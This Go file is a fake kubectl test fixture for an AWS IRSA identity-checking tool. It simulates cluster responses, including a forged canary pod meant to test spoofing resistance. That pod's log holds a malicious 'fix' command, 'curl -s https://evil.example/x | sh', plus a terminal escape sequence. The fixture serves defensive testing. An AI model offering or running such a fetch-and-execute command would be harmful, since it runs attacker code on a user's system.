package kubefake

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/irsa-probe/irsa-probe/probe/kube"
)

// dirEnv names the fake's directory for its process front door.
const dirEnv = "KUBEFAKE_DIR"

// Fake is a cluster in a directory: namespaces.json, serviceaccounts.json
// and pods.json (Lists, as Cluster writes them), pod.json (the one pod
// `kubectl get pod NAME` shows), forbidden ("VERB:RESOURCE" words, e.g.
// "list:pods create:jobs/payments"), canaries.json, and what it records:
// argv, jobs/, custom.json and debugged.
type Fake struct{ Dir string }

var _ kube.Runner = (*Fake)(nil)

// New is a fake cluster holding c, in a test's temporary directory.
func New(t testing.TB, c *Cluster) *Fake {
	t.Helper()
	f := &Fake{Dir: t.TempDir()}
	if c != nil {
		c.Write(t, f.Dir)
	}
	return f
}

// OnPath puts the test binary on PATH under the name kubectl, answering
// as this fake: the test's TestMain must call Main first.
func (f *Fake) OnPath(t testing.TB) {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(f.Dir, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(exe, filepath.Join(bin, "kubectl")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	t.Setenv(dirEnv, f.Dir)
}

// Main answers as kubectl and exits when the process runs under that
// name (OnPath); it returns otherwise. Call it first in TestMain.
func Main() {
	if filepath.Base(os.Args[0]) != "kubectl" {
		return
	}
	stdin, _ := io.ReadAll(io.LimitReader(os.Stdin, 1<<20))
	f := &Fake{Dir: os.Getenv(dirEnv)}
	os.Exit(f.serve(os.Args[1:], stdin, os.Stdout, os.Stderr))
}

// Run answers one kubectl command in process.
func (f *Fake) Run(ctx context.Context, c kube.Call) ([]byte, error) {
	if err := ctx.Err(); err != nil {
		return nil, kube.NewError(c.Args, -1, "", err)
	}
	var stdout, stderr bytes.Buffer
	var out, errOut io.Writer = &stdout, &stderr
	if c.Stdout != nil {
		out = c.Stdout
	}
	if c.Stderr != nil {
		errOut = io.MultiWriter(c.Stderr, &stderr)
	}
	if code := f.serve(c.Args, c.Stdin, out, errOut); code != 0 {
		return nil, kube.NewError(c.Args, code, stderr.String(), fmt.Errorf("exit status %d", code))
	}
	return stdout.Bytes(), nil
}

// Set writes the fake's file name.
func (f *Fake) Set(t testing.TB, name, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(f.Dir, name), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Read is the fake's file name ("" when absent).
func (f *Fake) Read(name string) string {
	b, _ := os.ReadFile(filepath.Join(f.Dir, name))
	return string(b)
}

// Argv is every command run so far, its words joined by spaces.
func (f *Fake) Argv() []string {
	s := strings.TrimSpace(f.Read("argv"))
	if s == "" {
		return nil
	}
	return strings.Split(s, "\n")
}

// JobsLeft are the canary Jobs still in the fake cluster.
func (f *Fake) JobsLeft() []string {
	entries, _ := os.ReadDir(filepath.Join(f.Dir, "jobs"))
	var out []string
	for _, e := range entries {
		out = append(out, e.Name())
	}
	return out
}

func (f *Fake) serve(args []string, stdin []byte, stdout, stderr io.Writer) int {
	d := f.Dir
	if rec, err := os.OpenFile(filepath.Join(d, "argv"), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
		fmt.Fprintln(rec, strings.Join(args, " "))
		rec.Close()
	}
	// Global flags may come anywhere; positions below are without them.
	args = slices.DeleteFunc(slices.Clone(args), func(a string) bool {
		return strings.HasPrefix(a, "--context=") || strings.HasPrefix(a, "--kubeconfig=")
	})
	if len(args) < 2 {
		fmt.Fprintln(stderr, "fake kubectl: unexpected", args)
		return 1
	}
	flagValue := func(name string) string {
		for _, a := range args {
			if v, ok := strings.CutPrefix(a, name+"="); ok {
				return v
			}
		}
		return ""
	}
	ns := flagValue("--namespace")
	all := slices.Contains(args, "--all-namespaces")
	forbidden := f.Read("forbidden")
	refused := func(verb, resource string) bool {
		return slices.Contains(strings.Fields(forbidden), verb+":"+resource)
	}
	where := "at the cluster scope"
	if ns != "" {
		where = `in the namespace "` + ns + `"`
	}
	named := len(args) > 2 && !strings.HasPrefix(args[2], "-")
	switch args[0] {
	case "get":
		if args[1] == "--raw" {
			fmt.Fprintln(stdout, `{"issuer":"https://oidc.eks.us-west-2.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE","jwks_uri":"https://ip-10-0-0-1.us-west-2.compute.internal:443/openid/v1/jwks","response_types_supported":["id_token"],"subject_types_supported":["public"],"id_token_signing_alg_values_supported":["RS256"]}`)
			return 0
		}
		res := args[1]
		if res == "pod" {
			return f.getPod(stdout)
		}
		if res == "namespace" {
			res = "namespaces"
		}
		if refused("list", res) && res == "namespaces" && named {
			fmt.Fprintf(stderr, "Error from server (Forbidden): namespaces %q is forbidden: User \"jane@example.com\" cannot get resource \"namespaces\" in API group \"\" in the namespace %q\n", args[2], args[2])
			return 1
		}
		if refused("list", res) {
			fmt.Fprintf(stderr, "Error from server (Forbidden): %s is forbidden: User \"jane@example.com\" cannot list resource %q in API group \"\" %s\n", res, res, where)
			return 1
		}
		if sel := flagValue("--selector"); sel != "" {
			return f.canaryPods(stdout, sel)
		}
		b, err := os.ReadFile(filepath.Join(d, res+".json"))
		if err != nil {
			fmt.Fprintf(stderr, "error: the server doesn't have a resource type %q\n", res)
			return 1
		}
		if res == "namespaces" && !all && named {
			var l struct{ Items []json.RawMessage }
			_ = json.Unmarshal(b, &l)
			for _, it := range l.Items {
				if strings.Contains(string(it), `"name":"`+args[2]+`"`) {
					_, _ = stdout.Write(it)
					return 0
				}
			}
			fmt.Fprintf(stderr, "Error from server (NotFound): namespaces %q not found\n", args[2])
			return 1
		}
		if ns != "" && res != "namespaces" {
			var l struct{ Items []json.RawMessage }
			_ = json.Unmarshal(b, &l)
			var keep []string
			for _, it := range l.Items {
				if strings.Contains(string(it), `"namespace":"`+ns+`"`) {
					keep = append(keep, string(it))
				}
			}
			b = []byte(ListJSON(keep))
		}
		_, _ = stdout.Write(b)
		return 0
	case "create":
		var job struct {
			Metadata struct{ Name, Namespace string } `json:"metadata"`
		}
		if err := json.Unmarshal(stdin, &job); err != nil {
			fmt.Fprintln(stderr, "error: error parsing STDIN:", err)
			return 1
		}
		if refused("create", "jobs/"+ns) {
			fmt.Fprintf(stderr, "Error from server (Forbidden): error when creating \"STDIN\": jobs.batch is forbidden: User \"jane@example.com\" cannot create resource \"jobs\" in API group \"batch\" in the namespace %q\n", ns)
			return 1
		}
		_ = os.MkdirAll(filepath.Join(d, "jobs"), 0o755)
		_ = os.WriteFile(filepath.Join(d, "jobs", ns+"_"+job.Metadata.Name+".json"), stdin, 0o644)
		if flagValue("--output") == "json" {
			// The object as the API server returned it: its uid is what
			// the Job's pods' controller reference carries.
			fmt.Fprintf(stdout, `{"apiVersion":"batch/v1","kind":"Job","metadata":{"name":%q,"namespace":%q,"uid":%q,"resourceVersion":"90210"},"spec":{},"status":{}}`+"\n",
				job.Metadata.Name, ns, JobUID(ns, job.Metadata.Name))
			return 0
		}
		fmt.Fprintln(stdout, "job.batch/"+job.Metadata.Name)
		return 0
	case "debug":
		for _, a := range args {
			if v, ok := strings.CutPrefix(a, "--custom="); ok {
				b, _ := os.ReadFile(v)
				_ = os.WriteFile(filepath.Join(d, "custom.json"), b, 0o644)
			}
			if v, ok := strings.CutPrefix(a, "--container="); ok {
				_ = os.WriteFile(filepath.Join(d, "debugged"), []byte(v), 0o644)
			}
		}
		return 0
	case "logs":
		if c := flagValue("--container"); c != "" && c == f.Read("debugged") {
			fmt.Fprintln(stdout, "irsa-probe: BROKEN — identity arn:aws:sts::111122223333:assumed-role/billing-api/x, mechanism irsa (12 ms)")
			return 0
		}
		if strings.HasPrefix(args[1], ForgedPrefix) {
			// A namespace editor's pod, labelled like a canary: its log
			// says all is well and hands out a fix.
			fmt.Fprintln(stdout, `{"ok":true,"identity":{"arn":"arn:aws:sts::111122223333:assumed-role/admin/x"},"mechanism":"irsa","checks":[],"findings":[{"code":"token-expiring-soon","severity":"warning","message":"all good\u001b[2K","fix":"curl -s https://evil.example/x | sh"}]}`)
			return 0
		}
		switch f.behaviour(ns, args[1]) {
		case "ok":
			fmt.Fprintln(stdout, `{"ok":true,"identity":{"arn":"arn:aws:sts::111122223333:assumed-role/billing-api/botocore-session-1","account":"111122223333","userId":"AROAEXAMPLE:x"},"mechanism":"irsa","checks":[{"name":"mechanism","status":"pass","detail":""}],"findings":[]}`)
		case "denied", "forged":
			fmt.Fprintln(stdout, `time=2026-12-02T09:00:00Z level=WARN msg="retrying"`)
			fmt.Fprintln(stdout, `{"ok":false,"identity":null,"mechanism":"irsa","checks":[{"name":"assume-role","status":"fail","detail":"AccessDenied"}],"findings":[{"code":"trust-policy-denied","severity":"error","message":"STS refused to let system:serviceaccount:payments:ledger assume arn:aws:iam::111122223333:role/ledger: AccessDenied: Not authorized to perform sts:AssumeRoleWithWebIdentity (request id 0f6e3b0c).","fix":"Replace the role's trust policy with one that trusts this cluster's OIDC provider for this service account:\n  aws iam update-assume-role-policy --role-name ledger --policy-document file://trust-policy.json"}]}`)
		default:
			fmt.Fprintln(stdout, "exec /irsa-probe: exec format error")
		}
		return 0
	case "rollout":
		// rollout restart deployment/NAME: a Deployment some pod's ReplicaSet belongs to.
		if len(args) < 3 {
			break
		}
		kind, name, _ := strings.Cut(args[2], "/")
		pods := f.Read("pods.json")
		if args[1] != "restart" || kind != "deployment" || !strings.Contains(pods, `"namespace":"`+ns+`"`) || !strings.Contains(pods, `"kind":"ReplicaSet","name":"`+name+`-`) {
			fmt.Fprintf(stderr, "Error from server (NotFound): deployments.apps %q not found\n", name)
			return 1
		}
		fmt.Fprintf(stdout, "deployment.apps/%s restarted\n", name)
		return 0
	case "delete":
		if refused("delete", "jobs/"+ns) {
			fmt.Fprintf(stderr, "Error from server (Forbidden): jobs.batch is forbidden: User \"jane@example.com\" cannot delete resource \"jobs\" in API group \"batch\" in the namespace %q\n", ns)
			return 1
		}
		sel := flagValue("--selector")
		entries, _ := os.ReadDir(filepath.Join(d, "jobs"))
		for _, e := range entries {
			b, _ := os.ReadFile(filepath.Join(d, "jobs", e.Name()))
			k, v, _ := strings.Cut(sel, "=")
			if strings.HasPrefix(e.Name(), ns+"_") && strings.Contains(string(b), fmt.Sprintf("%q:%q", k, v)) {
				_ = os.Remove(filepath.Join(d, "jobs", e.Name()))
				fmt.Fprintf(stdout, "job.batch %q deleted\n", strings.TrimSuffix(strings.TrimPrefix(e.Name(), ns+"_"), ".json"))
			}
		}
		return 0
	}
	fmt.Fprintln(stderr, "fake kubectl: unexpected", args)
	return 1
}

// getPod is pod.json; once kubectl debug ran, with the debugged
// container terminated with exit code 1 (a broken identity).
func (f *Fake) getPod(stdout io.Writer) int {
	b, err := os.ReadFile(filepath.Join(f.Dir, "pod.json"))
	if err != nil {
		return 1
	}
	if name := f.Read("debugged"); name != "" {
		var p map[string]any
		if err := json.Unmarshal(b, &p); err != nil {
			return 1
		}
		status, _ := p["status"].(map[string]any)
		if status == nil {
			status = map[string]any{}
			p["status"] = status
		}
		status["ephemeralContainerStatuses"] = []any{map[string]any{"name": name, "state": map[string]any{"terminated": map[string]any{"exitCode": 1, "reason": "Error"}}}}
		b, _ = json.Marshal(p)
	}
	_, _ = stdout.Write(b)
	return 0
}

// behaviour is what the canary of a pod (or Job) named NAME does:
// canaries.json maps "namespace/serviceaccount" to ok, denied, garbage,
// unschedulable, imagepull, nopod or forged (denied, with a pod labelled like
// the canary that says ok beside it).
func (f *Fake) behaviour(ns, name string) string {
	var m map[string]string
	_ = json.Unmarshal([]byte(f.Read("canaries.json")), &m)
	for k, v := range m {
		sans, sa, _ := strings.Cut(k, "/")
		if sans == ns && strings.Contains(name, "-"+sa) {
			return v
		}
	}
	return "ok"
}

// canaryPods lists the pods of the created Jobs that match sel.
func (f *Fake) canaryPods(stdout io.Writer, sel string) int {
	k, v, _ := strings.Cut(sel, "=")
	entries, _ := os.ReadDir(filepath.Join(f.Dir, "jobs"))
	var items []string
	for _, e := range entries {
		b, _ := os.ReadFile(filepath.Join(f.Dir, "jobs", e.Name()))
		if !strings.Contains(string(b), fmt.Sprintf("%q:%q", k, v)) {
			continue
		}
		var job struct {
			Metadata struct {
				Name, Namespace string
				Labels          map[string]string
			} `json:"metadata"`
		}
		_ = json.Unmarshal(b, &job)
		ns, name := job.Metadata.Namespace, job.Metadata.Name
		labels, _ := json.Marshal(job.Metadata.Labels)
		status := `{"phase":"Succeeded","containerStatuses":[{"name":"irsa-probe","state":{"terminated":{"exitCode":0,"reason":"Completed"}}}]}`
		switch f.behaviour(ns, name) {
		case "nopod":
			continue
		case "denied", "garbage", "forged":
			status = `{"phase":"Failed","containerStatuses":[{"name":"irsa-probe","state":{"terminated":{"exitCode":1,"reason":"Error"}}}]}`
		case "unschedulable":
			status = `{"phase":"Pending","conditions":[{"type":"PodScheduled","status":"False","reason":"Unschedulable","message":"0/3 nodes are available: 3 Insufficient cpu. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod."}]}`
		case "imagepull":
			status = `{"phase":"Pending","conditions":[{"type":"PodScheduled","status":"True"}],"containerStatuses":[{"name":"irsa-probe","state":{"waiting":{"reason":"ImagePullBackOff","message":"Back-off pulling image \"ghcr.io/irsa-probe/irsa-probe:v0.1.0\": ErrImagePull: failed to pull and unpack image"}}}]}`
		}
		items = append(items, fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":%q,"namespace":%q,"labels":%s,"ownerReferences":[{"apiVersion":"batch/v1","kind":"Job","name":%q,"uid":%q,"controller":true,"blockOwnerDeletion":true}]},"spec":{"serviceAccountName":"x","containers":[{"name":"irsa-probe"}]},"status":%s}`,
			name+"-x7k2p", ns, labels, name, JobUID(ns, name), status))
		if f.behaviour(ns, name) == "forged" {
			// Listed after the real one, exited 0, no owner: a verdict
			// taken from labels would be its.
			items = append(items, fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":%q,"namespace":%q,"labels":%s},"spec":{"serviceAccountName":"x","containers":[{"name":"irsa-probe"}]},"status":{"phase":"Succeeded","containerStatuses":[{"name":"irsa-probe","state":{"terminated":{"exitCode":0,"reason":"Completed"}}}]}}`,
				ForgedPrefix+name, ns, labels))
		}
	}
	fmt.Fprintf(stdout, `{"apiVersion":"v1","kind":"List","items":[%s]}`+"\n", strings.Join(items, ","))
	return 0
}

// ForgedPrefix names the pod a "forged" canary's namespace editor adds,
// labelled like the canary.
const ForgedPrefix = "zz-forged-"

// JobUID is the uid the fake's API server gives a Job.
func JobUID(ns, name string) string {
	h := fnv.New32a()
	h.Write([]byte(ns + "/" + name))
	return fmt.Sprintf("%08x-5e1f-4c2b-9a0d-0242ac120002", h.Sum32())
}
